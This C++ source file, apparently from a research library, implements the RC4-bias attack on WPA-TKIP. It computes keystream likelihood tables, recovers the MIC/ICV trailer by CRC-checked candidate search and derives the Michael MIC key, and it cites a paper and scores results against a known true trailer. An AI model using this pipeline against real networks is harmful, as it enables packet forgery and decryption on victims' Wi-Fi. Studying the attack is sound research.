#include "src/tkip/attack.h"

#include <cstdio>

#include "src/core/likelihood.h"
#include "src/crypto/crc32.h"
#include "src/recovery/engine.h"

namespace rc4b {

SingleByteTables TkipTrailerLikelihoods(const TkipCaptureStats& stats,
                                        const TkipTscModel& model) {
  // Load-bearing validation: a mismatched position range would index rows out
  // of bounds below, so it must hold in Release builds too. Loud, because an
  // empty result downstream looks like a legitimately failed attack.
  if (stats.first_position() != model.first_position() ||
      stats.last_position() != model.last_position()) {
    std::fprintf(stderr,
                 "TkipTrailerLikelihoods: stats positions [%zu, %zu] do not "
                 "match model positions [%zu, %zu]; returning empty tables\n",
                 stats.first_position(), stats.last_position(),
                 model.first_position(), model.last_position());
    return {};
  }
  const size_t positions = stats.position_count();
  SingleByteTables tables(positions, std::vector<double>(256, 0.0));
  double weights[256];
  double log_row[256];
  for (size_t p = 0; p < positions; ++p) {
    const size_t pos = stats.first_position() + p;
    // lambda_pos = H(sum_tsc1 H(counts / 256) * H(log_p)): the 256 per-TSC1
    // correlations share the final transform (src/core/likelihood.h).
    double* acc = tables[p].data();
    for (size_t tsc1 = 0; tsc1 < 256; ++tsc1) {
      const uint64_t* counts = stats.Row(static_cast<uint8_t>(tsc1), pos);
      const double* log_p = model.LogRow(static_cast<uint8_t>(tsc1), pos);
      for (size_t c = 0; c < 256; ++c) {
        weights[c] = static_cast<double>(counts[c]) / 256.0;
        log_row[c] = log_p[c];
      }
      WalshHadamard256(weights);
      WalshHadamard256(log_row);
      for (size_t k = 0; k < 256; ++k) {
        acc[k] += weights[k] * log_row[k];
      }
    }
    WalshHadamard256(acc);
  }
  return tables;
}

bool TkipTrailerConsistent(std::span<const uint8_t> msdu,
                           std::span<const uint8_t> trailer) {
  if (trailer.size() != kTkipTrailerSize) {
    return false;
  }
  uint32_t state = Crc32Init();
  state = Crc32Update(state, msdu);
  state = Crc32Update(state, trailer.subspan(0, 8));
  const uint32_t crc = Crc32Final(state);
  return crc == LoadLe32(trailer.data() + 8);
}

TkipAttackResult RecoverTkipTrailer(std::span<const uint8_t> known_msdu,
                                    const SingleByteTables& likelihoods,
                                    uint64_t max_candidates,
                                    std::span<const uint8_t> true_trailer,
                                    const TkipPeer& peer) {
  TkipAttackResult result;
  if (likelihoods.size() != kTkipTrailerSize) {
    return result;
  }

  // Precompute the CRC state over the fixed MSDU once; each candidate only
  // folds in its 8 MIC bytes.
  uint32_t msdu_state = Crc32Init();
  msdu_state = Crc32Update(msdu_state, known_msdu);

  // The unified recovery loop (src/recovery/engine.h) with the TKIP
  // verification predicate: CRC-32(msdu || MIC) must equal the ICV.
  recovery::RecoveryOptions options;
  options.max_candidates = max_candidates;
  options.truth.assign(true_trailer.begin(), true_trailer.end());
  const recovery::RecoveryEngine engine(std::move(options));
  const auto recovered =
      engine.RecoverSingle(likelihoods, [&](const Bytes& trailer) {
        const std::span<const uint8_t> bytes(trailer);
        const uint32_t crc =
            Crc32Final(Crc32Update(msdu_state, bytes.subspan(0, 8)));
        return crc == LoadLe32(bytes.data() + 8);
      });
  result.found = recovered.found;
  result.correct = recovered.correct;
  result.candidates_tried = recovered.candidates_tried;
  if (!recovered.found) {
    return result;
  }
  result.trailer = recovered.plaintext;
  // Derive the Michael key from the recovered MIC (Sect. 5.3 / [44]):
  // MIC = Michael(key, DA || SA || prio || 0^3 || msdu), inverted exactly.
  const auto header = MichaelHeader(peer.da, peer.sa, peer.priority);
  Bytes authenticated(header.begin(), header.end());
  authenticated.insert(authenticated.end(), known_msdu.begin(),
                       known_msdu.end());
  result.mic_key = MichaelRecoverKey(
      authenticated, std::span<const uint8_t>(result.trailer).subspan(0, 8));
  return result;
}

}  // namespace rc4b
